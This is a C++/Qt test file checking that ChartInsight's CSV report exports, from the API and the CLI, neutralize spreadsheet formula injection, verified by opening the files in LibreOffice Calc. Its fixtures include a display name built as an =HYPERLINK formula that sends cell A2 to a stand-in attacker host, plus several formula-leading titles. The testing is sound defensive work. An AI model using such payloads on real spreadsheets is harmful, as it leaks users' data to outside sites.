// Fault case C12: text that a spreadsheet would run as a formula (a display name with
// =HYPERLINK, record titles starting with =, +, -, @, a tab, a carriage return or spaces)
// goes through the access and activity reports' CSV export from the API and from
// chartinsight-cli, and LibreOffice Calc opens every file with formula evaluation on. No cell
// may become a formula, each shows its text with at most one "'" in front, and commas, quotes
// and line breaks keep the row and column counts. JSON keeps the raw values.
//
// The API rejects control characters in titles and trims spaces. So the titles with a tab, a
// carriage return or leading spaces are written into the server's database directly, as an
// older server version or another writer could have stored them.

#include "client/ClientTestSupport.h"
#include "client/SecretStore.h"
#include "core/CsvWriter.h"
#include "server/CurlClient.h"
#include "storage/SqlDatabase.h"
#include "support/TestSupport.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#include <memory>

using namespace chartinsight;
using namespace chartinsight::test;

namespace {

const QString kPassword = QStringLiteral("Saffron-Quill-Harbor-4021");
const QString kAdaEmail = QStringLiteral("ada@example.test");
const QString kLiamEmail = QStringLiteral("liam@example.test");
const QString kLiamName =
    QStringLiteral("=HYPERLINK(\"https://attacker.example.test/?d=\"&A2,\"Details\")");
constexpr int kColumns = 13;
constexpr int kActorNameColumn = 4;
constexpr int kTargetNameColumn = 8;

// LibreOffice's CSV import options. Tokens 1 to 5: comma, double quote, UTF-8, from line 1,
// and the time column (2) read as text so that it keeps the ISO 8601 form. Then default
// language, quoted fields not forced to text, special numbers not detected, tokens 9 to 12 at
// their defaults and token 13, "evaluate formulas", on where the version reads it. The control
// file checks that the installed version (7.4 on Debian 12) does evaluate formulas.
const QString kCsvImportFilter = QStringLiteral(
    "Text - txt - csv (StarCalc):44,34,76,1,2/2,0,false,false,false,false,false,false,true");

// Splits CSV text into records of fields as RFC 4180 defines them.
QList<QStringList> parseCsv(const QByteArray& bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList fields;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            fields << field;
            field.clear();
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            fields << field;
            records << fields;
            fields.clear();
            field.clear();
            ++i;
        } else {
            field += c;
        }
    }
    return records;
}

// A cell of a sheet as LibreOffice saved it in flat ODS: its text and whether it is a formula.
struct SheetCell
{
    QString text;
    bool formula = false;
};

// Reads the first sheet of a .fods file, with repeated columns expanded and line breaks inside
// a cell as '\n'. Trailing empty cells of a row and empty rows are dropped, so a repeated
// empty row is never expanded.
QList<QList<SheetCell>> readFlatOds(const QString& path)
{
    QList<QList<SheetCell>> rows;
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return rows;
    QXmlStreamReader xml(&file);
    QList<SheetCell> row;
    SheetCell cell;
    int repeat = 1;
    int paragraphs = 0;
    bool inCell = false;
    bool inParagraph = false; // text outside <text:p> is only the file's indentation
    bool inFirstTable = false;
    bool tableDone = false;
    while (!xml.atEnd() && !tableDone) {
        xml.readNext();
        const QStringView name = xml.qualifiedName();
        if (xml.isStartElement()) {
            if (name == u"table:table") {
                inFirstTable = true;
            } else if (!inFirstTable) {
                continue;
            } else if (name == u"table:table-row") {
                row.clear();
            } else if (name == u"table:table-cell" || name == u"table:covered-table-cell") {
                inCell = true;
                cell = SheetCell();
                cell.formula = xml.attributes().hasAttribute(QStringLiteral("table:formula"));
                const QStringView repeated =
                    xml.attributes().value(QStringLiteral("table:number-columns-repeated"));
                repeat = repeated.isEmpty() ? 1 : repeated.toInt();
                paragraphs = 0;
            } else if (inCell && name == u"text:p") {
                inParagraph = true;
                if (paragraphs++ > 0)
                    cell.text += u'\n';
            } else if (inCell && name == u"text:s") {
                const QStringView count = xml.attributes().value(QStringLiteral("text:c"));
                cell.text += QString(count.isEmpty() ? 1 : count.toInt(), u' ');
            } else if (inCell && name == u"text:tab") {
                cell.text += u'\t';
            } else if (inCell && name == u"text:line-break") {
                cell.text += u'\n';
            }
        } else if (xml.isCharacters() && inParagraph) {
            cell.text += xml.text();
        } else if (xml.isEndElement()) {
            if (name == u"text:p")
                inParagraph = false;
            if (name == u"table:table-cell" || name == u"table:covered-table-cell") {
                inCell = false;
                for (int i = 0; i < std::min(repeat, 1000); ++i)
                    row << cell;
            } else if (name == u"table:table-row" && inFirstTable) {
                while (!row.isEmpty() && row.last().text.isEmpty() && !row.last().formula)
                    row.removeLast();
                if (!row.isEmpty())
                    rows << row;
            } else if (name == u"table:table") {
                tableDone = true;
            }
        }
    }
    return rows;
}

QString normalizeLineBreaks(QString text)
{
    text.replace(QStringLiteral("\r\n"), QStringLiteral("\n"));
    text.replace(u'\r', u'\n');
    return text;
}

} // namespace

class TestC12CsvExport : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void cleanupTestCase();

    void jsonKeepsRawValues();
    void apiAccessExports();
    void apiActivityExport();
    void cliAccessExports();
    void cliActivityExportToStandardOutput();
    void controlFileIsEvaluated();
    void calcShowsTextNotFormulas();

private:
    ProcessOutput cli(const QStringList& arguments, const QByteArray& input = {}) const;
    QString uploadRecord(int index);
    bool setTitleInDatabase(const QString& recordId, const QString& title);
    // Checks the structure and the guarded cells of one export and keeps it for LibreOffice.
    void checkExport(const QString& label, const QByteArray& csv, int expectedEntries);
    // Converts a CSV file to flat ODS with LibreOffice Calc; returns the .fods path.
    QString convertWithCalc(const QString& csvPath);

    ServerProcess m_server;
    std::unique_ptr<CurlClient> m_client;
    QTemporaryDir m_files;
    QTemporaryDir m_profile;
    QTemporaryDir m_calcProfile;
    QString m_adaToken;
    QString m_liamToken;
    QString m_liam;
    QStringList m_titles;
    QStringList m_records;
    QStringList m_exports; // CSV files written by the tests, for LibreOffice
};

void TestC12CsvExport::initTestCase()
{
    QVERIFY2(QFile::exists(cliExecutable()), "build chartinsight-cli first");
    QVERIFY(m_server.start());
    QCOMPARE(m_server.addUser(kAdaEmail, kPassword, true), 0);
    QCOMPARE(m_server.addUser(kLiamEmail, kPassword, false), 0);
    m_client = std::make_unique<CurlClient>(m_server);
    m_adaToken = m_client->login(kAdaEmail, kPassword);
    m_liamToken = m_client->login(kLiamEmail, kPassword);
    QVERIFY(!m_adaToken.isEmpty());
    QVERIFY(!m_liamToken.isEmpty());

    // Liam's display name is a formula that would send cell A2 to another site.
    const CurlResult named = m_client->request(
        QStringLiteral("PATCH"), QStringLiteral("/api/v1/account"),
        QJsonDocument(QJsonObject{{QStringLiteral("display_name"), kLiamName}})
            .toJson(QJsonDocument::Compact),
        m_liamToken);
    QVERIFY2(named.status == 200, named.body.constData());
    m_liam = named.json().value(QStringLiteral("user_id")).toString();
    QVERIFY(!m_liam.isEmpty());

    m_titles = {QStringLiteral("=1+1"),      QStringLiteral("+1+1"),
                QStringLiteral("-1+1"),      QStringLiteral("@SUM(1,1)"),
                QStringLiteral("\t=1+1"),    QStringLiteral("\r=1+1"),
                QStringLiteral("Smith, \"Jo\""), QStringLiteral("   =1+1")};
    for (int i = 0; i < m_titles.size(); ++i) {
        const QString id = uploadRecord(i);
        QVERIFY(!id.isEmpty());
        m_records << id;
        const QString title = m_titles.at(i);
        const CurlResult titled = m_client->request(
            QStringLiteral("PATCH"), QStringLiteral("/api/v1/records/") + id,
            QJsonDocument(QJsonObject{{QStringLiteral("title"), title}})
                .toJson(QJsonDocument::Compact),
            m_adaToken);
        if (title.trimmed() != title || title.contains(u'\t') || title.contains(u'\r')) {
            // The API trims titles and rejects control characters.
            if (titled.status == 400)
                QCOMPARE(titled.errorCode(), QStringLiteral("invalid_request"));
            QVERIFY(setTitleInDatabase(id, title));
        } else {
            QVERIFY2(titled.status == 200, titled.body.constData());
        }
    }

    // Liam opens each record in the viewer.
    for (const QString& id : std::as_const(m_records)) {
        const CurlResult opened = m_client->request(
            QStringLiteral("GET"), QStringLiteral("/api/v1/records/%1/content").arg(id), {},
            m_liamToken, {QStringLiteral("-H"), QStringLiteral("X-ChartInsight-Purpose: view")});
        QCOMPARE(opened.status, 200);
    }

    // The CLI signs in as Ada with its own profile and keychain entries.
    QVERIFY(removeSecret(QString::fromLatin1(client::kCacheKeyEntry)).ok());
    QVERIFY(removeSecret(client::sessionEntryName(m_server.url().toString())).ok());
    const ProcessOutput login =
        cli({QStringLiteral("login"), QStringLiteral("--email"), kAdaEmail},
            kPassword.toUtf8() + '\n');
    QVERIFY2(login.exitCode == 0, login.standardError.constData());
}

void TestC12CsvExport::cleanupTestCase()
{
    m_server.stop();
}

ProcessOutput TestC12CsvExport::cli(const QStringList& arguments, const QByteArray& input) const
{
    return runProcess(cliExecutable(),
                      QStringList{QStringLiteral("--server"), m_server.url().toString(),
                                  QStringLiteral("--ca-file"), m_server.caFile()} +
                          arguments,
                      input, 120000,
                      {QStringLiteral("CHARTINSIGHT_PROFILE_DIR=") + m_profile.path(),
                       QStringLiteral("CHARTINSIGHT_SIGNATURES=") + testSignatureDir()});
}

QString TestC12CsvExport::uploadRecord(int index)
{
    const CurlResult uploaded = m_client->request(
        QStringLiteral("POST"),
        QStringLiteral("/api/v1/records?filename=chart-%1.txt&sharing=team").arg(index),
        "chart " + QByteArray::number(index), m_adaToken);
    if (uploaded.status != 201) {
        qWarning("upload failed with %d: %s", uploaded.status, uploaded.body.constData());
        return {};
    }
    return uploaded.json().value(QStringLiteral("id")).toString();
}

bool TestC12CsvExport::setTitleInDatabase(const QString& recordId, const QString& title)
{
    QFile keyFile(QDir(m_server.dataDir()).filePath(QStringLiteral("db.key")));
    if (!keyFile.open(QIODevice::ReadOnly))
        return false;
    auto db = storage::SqlDatabase::open(
        QDir(m_server.dataDir()).filePath(QStringLiteral("chartinsight.db")),
        QByteArray::fromHex(keyFile.readAll().trimmed()),
        storage::SqlDatabase::OpenMode::ExistingOnly);
    if (!db)
        return false;
    auto update = db.value()->prepare(QStringLiteral("UPDATE records SET title = ? WHERE id = ?"));
    if (!update)
        return false;
    update->bind(1, title).bind(2, recordId);
    return update->exec().ok();
}

void TestC12CsvExport::checkExport(const QString& label, const QByteArray& csv,
                                   int expectedEntries)
{
    QVERIFY2(csv.endsWith("\r\n"), qPrintable(label));
    const QList<QStringList> records = parseCsv(csv);
    QVERIFY2(records.size() == expectedEntries + 1,
             qPrintable(QStringLiteral("%1: %2 records, expected %3")
                            .arg(label)
                            .arg(records.size())
                            .arg(expectedEntries + 1)));
    for (const QStringList& record : records)
        QVERIFY2(record.size() == kColumns, qPrintable(label + QStringLiteral(": column count")));

    for (qsizetype row = 1; row < records.size(); ++row) {
        const QStringList& record = records.at(row);
        for (const QString& cell : record) {
            // No cell starts, after spaces, with a character that opens a formula.
            const QString stripped = QString(cell).remove(QRegularExpression(QStringLiteral("^ +")));
            if (!stripped.isEmpty() && !cell.startsWith(u'\'')) {
                QVERIFY2(!QStringLiteral("=+-@\t\r\n").contains(stripped.front()),
                         qPrintable(label + QStringLiteral(": unguarded cell ") + cell));
            }
        }
        if (record.at(kActorNameColumn).contains(QStringLiteral("HYPERLINK")))
            QCOMPARE(record.at(kActorNameColumn), QStringLiteral("'") + kLiamName);
        const QString target = record.at(kTargetNameColumn);
        for (const QString& title : std::as_const(m_titles)) {
            if (target == title || target == QStringLiteral("'") + title)
                QCOMPARE(target, CsvWriter::neutralized(title));
        }
    }

    const QString path = m_files.filePath(QStringLiteral("export-%1.csv").arg(m_exports.size()));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QVERIFY(file.write(csv) == csv.size());
    file.close();
    m_exports << path;
}

void TestC12CsvExport::jsonKeepsRawValues()
{
    for (int i = 0; i < m_records.size(); ++i) {
        const CurlResult report = m_client->request(
            QStringLiteral("GET"), QStringLiteral("/api/v1/reports/access?record=") + m_records.at(i),
            {}, m_adaToken);
        QCOMPARE(report.status, 200);
        const QJsonArray entries = report.json().value(QStringLiteral("entries")).toArray();
        QCOMPARE(entries.size(), 1);
        const QJsonObject entry = entries.first().toObject();
        QCOMPARE(entry.value(QStringLiteral("action")).toString(), QStringLiteral("record.viewed"));
        QCOMPARE(entry.value(QStringLiteral("actor_id")).toString(), m_liam);
        QCOMPARE(entry.value(QStringLiteral("actor_name")).toString(), kLiamName);
        QCOMPARE(entry.value(QStringLiteral("target_name")).toString(), m_titles.at(i));
    }
}

void TestC12CsvExport::apiAccessExports()
{
    for (int i = 0; i < m_records.size(); ++i) {
        const CurlResult csv = m_client->request(
            QStringLiteral("GET"),
            QStringLiteral("/api/v1/reports/access?format=csv&record=") + m_records.at(i), {},
            m_adaToken);
        QCOMPARE(csv.status, 200);
        QCOMPARE(csv.header("content-type"), QByteArray("text/csv; charset=utf-8"));
        checkExport(QStringLiteral("API access report %1").arg(i), csv.body, 1);
        const QStringList row = parseCsv(csv.body).value(1);
        QCOMPARE(row.value(kActorNameColumn), QStringLiteral("'") + kLiamName);
        QCOMPARE(row.value(kTargetNameColumn), CsvWriter::neutralized(m_titles.at(i)));
    }
}

void TestC12CsvExport::apiActivityExport()
{
    const CurlResult json = m_client->request(
        QStringLiteral("GET"), QStringLiteral("/api/v1/reports/activity?limit=1000"), {},
        m_adaToken);
    QCOMPARE(json.status, 200);
    const int entries = int(json.json().value(QStringLiteral("entries")).toArray().size());
    QVERIFY(entries >= m_records.size());
    const CurlResult csv = m_client->request(
        QStringLiteral("GET"), QStringLiteral("/api/v1/reports/activity?format=csv"), {},
        m_adaToken);
    QCOMPARE(csv.status, 200);
    checkExport(QStringLiteral("API activity report"), csv.body, entries);
}

void TestC12CsvExport::cliAccessExports()
{
    for (int i = 0; i < m_records.size(); ++i) {
        const QString output = m_files.filePath(QStringLiteral("cli-access-%1.csv").arg(i));
        const ProcessOutput exported =
            cli({QStringLiteral("report"), QStringLiteral("access"), QStringLiteral("--record"),
                 m_records.at(i), QStringLiteral("--csv"), QStringLiteral("--output"), output});
        QVERIFY2(exported.exitCode == 0, exported.standardError.constData());
        QFile file(output);
        QVERIFY(file.open(QIODevice::ReadOnly));
        checkExport(QStringLiteral("CLI access report %1").arg(i), file.readAll(), 1);
        QVERIFY(!QFile::exists(output + QStringLiteral(".part")));
    }

    // The table prints names with control characters replaced, so none reaches the terminal.
    const ProcessOutput table = cli({QStringLiteral("report"), QStringLiteral("access"),
                                     QStringLiteral("--record"), m_records.at(5)});
    QVERIFY2(table.exitCode == 0, table.standardError.constData());
    QVERIFY(!table.standardOutput.contains('\r'));
    QVERIFY(table.standardOutput.contains("HYPERLINK"));
}

void TestC12CsvExport::cliActivityExportToStandardOutput()
{
    const ProcessOutput json = cli({QStringLiteral("report"), QStringLiteral("activity"),
                                    QStringLiteral("--json"), QStringLiteral("--limit"),
                                    QStringLiteral("100000")});
    QVERIFY2(json.exitCode == 0, json.standardError.constData());
    const int entries = int(QJsonDocument::fromJson(json.standardOutput).array().size());
    const ProcessOutput csv =
        cli({QStringLiteral("report"), QStringLiteral("activity"), QStringLiteral("--csv")});
    QVERIFY2(csv.exitCode == 0, csv.standardError.constData());
    // The JSON listing above added no entry, so the CSV has the same entries.
    checkExport(QStringLiteral("CLI activity report"), csv.standardOutput, entries);
}

QString TestC12CsvExport::convertWithCalc(const QString& csvPath)
{
    const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
    if (soffice.isEmpty())
        return {};
    const QString outputDir = QFileInfo(csvPath).absolutePath();
    const ProcessOutput converted = runProcess(
        soffice,
        {QStringLiteral("-env:UserInstallation=file://") + m_calcProfile.path(),
         QStringLiteral("--headless"), QStringLiteral("--norestore"),
         QStringLiteral("--infilter=") + kCsvImportFilter, QStringLiteral("--convert-to"),
         QStringLiteral("fods"), QStringLiteral("--outdir"), outputDir, csvPath},
        {}, 180000);
    const QString fods = outputDir + u'/' + QFileInfo(csvPath).completeBaseName() +
                         QStringLiteral(".fods");
    if (converted.exitCode != 0 || !QFile::exists(fods)) {
        qWarning("soffice failed (%d): %s", converted.exitCode,
                 converted.standardError.constData());
        return {};
    }
    return fods;
}

void TestC12CsvExport::controlFileIsEvaluated()
{
    // Without the guard LibreOffice runs the formula: the conversion below really evaluates.
    const QString path = m_files.filePath(QStringLiteral("control.csv"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("\"title\"\r\n\"=1+1\"\r\n");
    file.close();
    const QString fods = convertWithCalc(path);
    QVERIFY2(!fods.isEmpty(), "LibreOffice Calc (soffice, Debian package libreoffice-calc-nogui) "
                              "is missing or failed; installer/install-deps.sh installs it");
    const QList<QList<SheetCell>> rows = readFlatOds(fods);
    QCOMPARE(rows.size(), 2);
    QVERIFY(rows.at(1).first().formula);
    QCOMPARE(rows.at(1).first().text, QStringLiteral("2"));
}

void TestC12CsvExport::calcShowsTextNotFormulas()
{
    // Each earlier test adds its files, so this one runs last.
    QVERIFY(m_exports.size() >= 2 * m_records.size() + 2);
    for (const QString& path : std::as_const(m_exports)) {
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QList<QStringList> records = parseCsv(file.readAll());
        const QString fods = convertWithCalc(path);
        QVERIFY2(!fods.isEmpty(), qPrintable(QStringLiteral("converting %1 failed").arg(path)));
        const QList<QList<SheetCell>> rows = readFlatOds(fods);
        QVERIFY2(rows.size() == records.size(),
                 qPrintable(QStringLiteral("%1: Calc shows %2 rows, the file has %3")
                                .arg(path)
                                .arg(rows.size())
                                .arg(records.size())));
        for (qsizetype r = 0; r < rows.size(); ++r) {
            const QList<SheetCell>& row = rows.at(r);
            QVERIFY2(row.size() <= kColumns, qPrintable(path + QStringLiteral(": too many columns")));
            for (qsizetype c = 0; c < kColumns; ++c) {
                const SheetCell cell = row.value(c);
                const QString expected = normalizeLineBreaks(records.at(r).at(c));
                QVERIFY2(!cell.formula,
                         qPrintable(QStringLiteral("%1 row %2 column %3 became a formula: %4")
                                        .arg(path)
                                        .arg(r)
                                        .arg(c)
                                        .arg(expected)));
                QVERIFY2(cell.text == expected,
                         qPrintable(QStringLiteral("%1 row %2 column %3 shows \"%4\", the file "
                                                   "has \"%5\"")
                                        .arg(path)
                                        .arg(r)
                                        .arg(c)
                                        .arg(cell.text, expected)));
                // At most one neutralizing apostrophe in front of the stored text.
                QVERIFY(!cell.text.startsWith(QStringLiteral("''")));
            }
        }
    }
}

QTEST_GUILESS_MAIN(TestC12CsvExport)
#include "TestC12CsvExport.moc"
